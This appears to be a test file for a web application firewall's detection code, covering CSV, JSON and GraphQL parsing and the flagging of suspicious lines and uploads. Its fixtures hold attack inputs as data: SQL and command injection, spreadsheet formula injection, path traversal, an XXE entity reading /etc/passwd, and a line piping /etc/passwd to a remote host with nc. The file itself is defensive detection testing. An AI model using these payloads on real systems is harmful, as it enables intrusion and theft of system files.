import fc from "fast-check";
import { describe, expect, test } from "vitest";
import {
  cellsOf,
  inspect,
  literalsOf,
  mayDeclare,
  oddLinesOf,
  textsOfJson,
} from "../../support/source/detection/inspection.ts";
import { Budget } from "../../support/source/language/values.ts";
import { requestFrom, WafRequest } from "../../support/source/request/model.ts";
import { requestOf } from "../corpus/requests.ts";

describe("cells of a table", () => {
  test.each([
    ["a,b'cdefg\n", ["b'cdefg"]],
    ["a;b;c\r\n1;b'cdef,g;2", ["b'cdef,g"]],
    ["n\tt\tu\na\tb'cd;ef,g\t", ["b'cd;ef,g"]],
    ['"a ""quoted"", one",2\n', ['a "quoted", one']],
    ['"never <closed>', ["never <closed>"]],
    ["plain words,2024-01-02,12.5,a@b.example", []],
    ["x'yzabc,x'yzabc", ["x'yzabc"]],
  ])("of %j", (table, cells) => {
    expect(cellsOf(table)).toEqual(cells);
  });

  test("of any text stand in it, quotes undone", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(..."\"'a<,;\t\r\n") }), (table) => {
        for (const cell of cellsOf(table))
          expect(table.includes(cell) || table.includes(cell.replaceAll('"', '""'))).toBe(true);
      }),
    );
  });
});

describe("odd lines", () => {
  const prose = ["It rained all day.", "We stayed in.", "The bridge is closed.", "See you soon."];
  test.each([
    "; cat notes",
    "$(date) x",
    "' or 1=1",
    "admin'-- x",
    "a.png; cat b",
    "=cmd|'/c x'!A1",
    "../../../etc/x",
    "{{7*7}} is",
    "javascript:alert(1)",
    "http://127.0.0.1/",
  ])("%j stands out", (line) => {
    expect(oddLinesOf([...prose, line].join("\n"))).toEqual([line]);
    expect(oddLinesOf([line, ...prose].join("\r\n"))).toEqual([line]);
  });

  test.each([
    "- a list",
    "* a list",
    "/srv/site",
    "<b>bold</b>",
    "Tom & Jane",
    "  indented; code()",
    "# Heading",
  ])("%j does not", (line) => {
    expect(oddLinesOf([...prose, line].join("\n"))).toEqual([]);
  });

  test("are none where many lines begin so, in one line, nor in a long text", () => {
    expect(oddLinesOf([...prose, "'a b c d", "'e f g h"].join("\n"))).toEqual([]);
    expect(oddLinesOf("; cat notes")).toEqual([]);
    expect(oddLinesOf(`${"It rained.\n".repeat(300)}; cat notes`)).toEqual([]);
  });
});

test.each([
  ['{"a":["words",{"b":"\\u00e9tude \xc3\xa9"}],"c":5}', ["words", "\xc3\xa9tude \xc3\xa9"]],
  ['{"a":"first"}\n{"a":"second"}\n', ["second", "first"]],
  ['["few","words","words"]', ["words"]],
  ["no JSON at all", []],
  ["", []],
])("texts of JSON %j", (text, texts) => {
  expect([...textsOfJson(text)].sort()).toEqual([...texts].sort());
});

test("texts of JSON are bounded, however deep it is", () => {
  expect(textsOfJson(`${"[".repeat(20_000)}"deep down"${"]".repeat(20_000)}`)).toEqual(["deep down"]);
  expect(textsOfJson(JSON.stringify(["x".repeat(70_000)]))).toEqual([]);
  const many = JSON.stringify(Array.from({ length: 5000 }, (_, at) => `text ${at}`));
  // As many as a file of that length holds: who counts them leaves out the one that matters.
  expect(textsOfJson(many)).toHaveLength(5000);
});

describe("strings of GraphQL", () => {
  test.each([
    ['{a(b:"c d")}', ["c d"]],
    ['query q($a: Int) { a(b: "x\\"y", c: """z "w" """) }', ['x"y', 'z "w" ']],
    ['mutation { a(b: "c") # "no" \n d(e: "f") }', ["c", "f"]],
    ['{a(b:"never closed', ["never closed"]],
    ['{"a": "JSON"}', []],
    ['query the "table"', []],
    ['some "words"', []],
  ])("%j", (text, strings) => {
    expect(literalsOf(text)).toEqual(strings);
  });

  test("take linear time", () => {
    const start = performance.now();
    literalsOf(`{a(b:"""${'\n\\"""'.repeat(100_000)}`);
    literalsOf(`{a(b:${'"'.repeat(400_001)}`);
    expect(performance.now() - start).toBeLessThan(1000);
  });
});

test.each([
  ["<!ENTITY x", true],
  ["\0\x01<!doctype x", true],
  ["<xi:include href", true],
  ["<xsl:template", true],
  ["<p>included</p>", false],
  [`${"<a".repeat(1000)}`, false],
])("%j may declare something: %j", (bytes, may) => {
  expect(mayDeclare(bytes)).toBe(may);
});

describe("in files only what is enough by itself counts", () => {
  const kindsOf = (text: string, place: `file:${string}`) =>
    inspect(new WafRequest(requestFrom(requestOf(text, place))), new Budget(1e6)).evidence.map(
      ({ kind, points }) => [kind.name, points],
    );

  test.each([
    ["file:a.csv", "id,note\n1,x' union select login from members --", "sqli-union-select-body"],
    ["file:a.txt", "photo.png; cat /etc/passwd | nc 203.0.113.5 4444", "rce-chained-command"],
    [
      "file:a.svg",
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><svg>&b;</svg>',
      "xxe-external-entity",
    ],
  ] as const)("%s %j", (place, text, kind) => {
    expect(kindsOf(text, place)).toContainEqual([kind, 5]);
  });

  test.each([
    ["file:a.csv", "query,clicks\nwhat is <b>,5\n ORDER BY 2 ,3"],
    ["file:a.sql", "SELECT a FROM b UNION SELECT c FROM d;"],
    ["file:a.html", '<p onclick="a()">x</p><script>b()</script>'],
    ["file:a.sh", "cd /srv; cat /etc/passwd | sort"],
  ] as const)("nothing in %s %j", (place, text) => {
    expect(kindsOf(text, place)).toEqual([]);
  });
});
